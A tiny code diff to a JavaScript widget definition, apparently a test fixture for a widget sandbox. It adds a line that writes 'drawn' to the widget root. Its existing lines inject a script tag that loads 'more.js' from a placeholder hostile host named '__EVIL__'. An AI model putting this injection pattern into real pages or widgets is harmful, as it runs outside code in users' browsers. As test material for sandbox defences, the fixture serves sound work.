@@ -1,5 +1,6 @@
 vitrine.defineWidget({
   async draw(root) {
+    root.append('drawn');
     const script = document.createElement('script');
     script.src = '__EVIL__/more.js';
     document.head.append(script);
